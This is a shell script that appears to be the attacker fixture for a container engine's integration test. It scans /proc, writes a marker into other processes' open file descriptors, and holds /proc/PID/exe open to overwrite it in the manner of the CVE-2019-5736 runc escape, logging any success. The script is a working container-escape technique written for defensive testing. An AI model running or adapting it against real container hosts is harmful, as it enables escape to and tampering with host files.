#!/bin/sh
# The attacker of tests/integration/engine/test_exec_attack.py. Meant to run as a
# container's init ONLY (it refuses to run anywhere else): it watches /proc for new
# processes and tries to reach the host through their /proc/PID/fd/* (opened read-write,
# written to) and /proc/PID/exe (held open, written once nothing executes it any more,
# the CVE-2019-5736 way). It logs what it opened ("fd", "exe") and what it wrote ("WIN").
case "$(tr '\0' ' ' < /proc/1/cmdline)" in
  *proc_watcher*) ;;
  *) echo "proc_watcher: refusing to run outside a container" >&2; exit 2;;
esac
log=/tmp/attack.log
me=$$
true > $log
held=""
n=10
while [ ! -e /tmp/stop ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$p" in 1|$me) continue;; esac
    for f in $d/fd/*; do
      if { command exec 9<> "$f"; } 2>/dev/null; then
        t=$(readlink /proc/self/fd/9)
        # a file of the container's own (the same inode at that path in here: runc's init
        # reads the container's /etc/passwd while it sets the user up) is no host file
        own=$(stat -L -c %d:%i /proc/self/fd/9 2>/dev/null)
        case "$t" in pipe:*|/dev/null|socket:*|anon_inode:*|/dev/pts/*|/tmp/attack.log|/proc/$p/*) ;;
          *) if [ -z "$own" ] || [ "$own" != "$(stat -c %d:%i "$t" 2>/dev/null)" ]; then
               echo "fd $p $t" >> $log
               if { echo PWNED-FROM-CONTAINER >&9; } 2>/dev/null; then echo "WIN fd $p $t" >> $log; fi
             fi;;
        esac
        command exec 9>&-
      fi
    done
    if [ $n -lt 30 ] && { command eval "exec $n< $d/exe"; } 2>/dev/null; then
      t=$(readlink /proc/self/fd/$n)
      case "$t" in /bin/*) command eval "exec $n<&-";;
        *) echo "exe $p $t" >> $log; held="$held $n"; n=$((n+1));;
      esac
    fi
  done
  for h in $held; do
    if { echo PWNED-FROM-CONTAINER >> /proc/self/fd/$h; } 2>/dev/null; then
      echo "WIN exe $h $(readlink /proc/self/fd/$h)" >> $log
    fi
  done
done
